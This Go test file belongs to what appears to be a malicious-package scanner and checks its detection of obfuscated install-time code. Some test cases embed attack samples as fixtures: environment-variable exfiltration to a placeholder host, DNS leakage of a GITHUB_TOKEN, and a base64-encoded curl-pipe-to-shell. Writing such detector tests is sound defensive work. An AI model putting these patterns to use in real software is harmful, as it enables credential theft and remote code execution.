package content

import (
	"context"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// contentSeedFiles returns the code files of the samples with ext.
func contentSeedFiles(t testing.TB, exts ...string) [][]byte {
	t.Helper()
	var out [][]byte
	err := filepath.WalkDir(filepath.Join("..", "testdata", "content", "samples"), func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		for _, e := range exts {
			if strings.HasSuffix(p, e) {
				b, err := os.ReadFile(p)
				if err != nil {
					return err
				}
				out = append(out, b)
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// Unparseable files are reported as skipped with the reason; when they
// run at install time that is itself a finding.
func TestContentUnparseableSkipped(t *testing.T) {
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  string
		rule  string
	}{
		{"js syntax error at install", map[string]string{
			"package/package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
			"package/i.js":         "function (\n",
		}, "i.js (javascript syntax: line 1", "unparsed-install-code"},
		{"python unterminated string", map[string]string{
			"x-0.1/PKG-INFO":      "Name: x\nVersion: 0.1\n",
			"x-0.1/setup.py":      "from setuptools import setup\nsetup(name='x)\n",
			"x-0.1/x/__init__.py": "",
		}, "setup.py (python syntax: line 2: unterminated string)", "unparsed-install-code"},
		{"python unbalanced bracket", map[string]string{
			"y-0.1/PKG-INFO":      "Name: y\nVersion: 0.1\n",
			"y-0.1/setup.py":      "from setuptools import setup\nsetup(name='y'\n",
			"y-0.1/y/__init__.py": "x = ]\n",
		}, "y/__init__.py (python syntax: line 1: unbalanced \"]\")", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			rep, err := ScanPackageArchive(context.Background(), "x.tgz", strings.NewReader(string(contentTarGz(t, tc.files))))
			if err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(strings.Join(rep.Skipped, "\n"), tc.want) {
				t.Errorf("skipped %q, want one containing %q", rep.Skipped, tc.want)
			}
			if tc.rule != "" {
				if _, ok := contentSignalIDs(rep)[tc.rule]; !ok {
					t.Errorf("no %s signal: %+v", tc.rule, rep.Signals)
				}
			}
		})
	}
}

// Values are followed through the syntax, not matched as text: each case
// resolves a name the text does not contain.
func TestContentValueFollowing(t *testing.T) {
	for _, tc := range []struct {
		name, lang, code, rule string
	}{
		{"js template literal", "js", "const m = `child_${'process'}`;\nrequire(m)['ex' + 'ec']('id');\n", "api-obfuscation"},
		{"js hex and unicode escapes", "js", "require('\\x63hild_\\u0070rocess')['\\u0065xec']('x');\n", "api-obfuscation"},
		{"js destructured alias", "js", "const { execSync: run } = require('node:child_process');\nrun(Buffer.from('aWQ=', 'base64').toString());\n", "exec-decoded"},
		{"js const alias of eval", "js", "const e = eval;\ne(atob('YWxlcnQoMSk='));\n", "exec-decoded"},
		{"js split reverse join", "js", "const n = 'cexe'.split('').reverse().join('');\nrequire('child_process')[n]('x');\n", "api-obfuscation"},
		{"js local function carries the data", "js", "const https = require('https');\nfunction send(d) { https.request({hostname: 'a.b.example'}).end(d); }\nsend(JSON.stringify(process.env));\n", "env-exfiltration"},
		{"py import alias", "py", "import subprocess as s\nimport base64\ns.call(base64.b64decode('aWQ=').decode(), shell=True)\n", "exec-decoded"},
		{"py __import__ and getattr", "py", "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n", "api-obfuscation"},
		{"py from import alias", "py", "from os import system as run\nfrom base64 import b64decode as d\nrun(d('aWQ='))\n", "exec-decoded"},
		{"py reversed string", "py", "import os\ngetattr(os, 'metsys'[::-1])('id')\n", "api-obfuscation"},
		{"py chr join", "py", "import os\nn = ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109])\ngetattr(os, n)('id')\n", "api-obfuscation"},
		{"py f-string into DNS", "py", "import os, socket\nt = os.environ['GITHUB_TOKEN']\nsocket.gethostbyname(f'{t}.x.example')\n", "dns-exfiltration"},
		{"py exec of decoded code, analysed", "py", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cDovLzIwMy4wLjExMy45L3ggfCBzaCIp'))\n", "shell-download-exec"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a := newContentFileAnalysis("f", tc.lang, []byte(tc.code), false)
			var err error
			if tc.lang == "js" {
				err = analyseJS(a)
			} else {
				err = analysePython(a)
			}
			if err != nil {
				t.Fatal(err)
			}
			var rules []string
			for _, f := range a.sorted() {
				rules = append(rules, f.Rule)
			}
			if !strings.Contains(","+strings.Join(rules, ",")+",", ","+tc.rule+",") {
				t.Errorf("rules %v, want %s", rules, tc.rule)
			}
		})
	}
}

// A budget bounds the work on one file: a file that would need more
// steps is cut short, says so, and keeps what was found.
func TestContentBudget(t *testing.T) {
	code := strings.Repeat("a = b + c + d + e;\n", 20000)
	a := newContentFileAnalysis("big.js", "js", []byte(code), false)
	a.budget = 1000
	if err := analyseJS(a); err != nil {
		t.Fatal(err)
	}
	if !a.exhausted {
		t.Error("budget not enforced")
	}
}

func FuzzContentJS(f *testing.F) {
	for _, b := range contentSeedFiles(f, ".js", ".mjs") {
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		a := newContentFileAnalysis("f.js", "js", src, true)
		_ = analyseJS(a)
		a.obfuscationText()
		for _, x := range a.sorted() {
			if x.Rule == "" || x.Category == "" {
				t.Fatalf("finding without rule or category: %+v", x)
			}
		}
	})
}

func FuzzContentPython(f *testing.F) {
	for _, b := range contentSeedFiles(f, ".py", ".pth") {
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		a := newContentFileAnalysis("f.py", "py", src, true)
		_ = analysePython(a)
		for _, x := range a.sorted() {
			if x.Rule == "" || x.Category == "" {
				t.Fatalf("finding without rule or category: %+v", x)
			}
		}
	})
}

func FuzzLoadContentModel(f *testing.F) {
	b, err := os.ReadFile(filepath.Join("models", "content-logistic.json"))
	if err != nil {
		f.Fatal(err)
	}
	f.Add(b)
	f.Add([]byte(`{"schema":"chaingate.risk.model/v1","info":{"kind":"logistic"}}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := LoadModel(data)
		if err != nil {
			return
		}
		s, err := m.Score(make([]float64, len(FeatureNames())))
		if err != nil || s.Value < 0 || s.Value > 1 {
			t.Fatalf("loaded model scores %v, %v", s.Value, err)
		}
	})
}
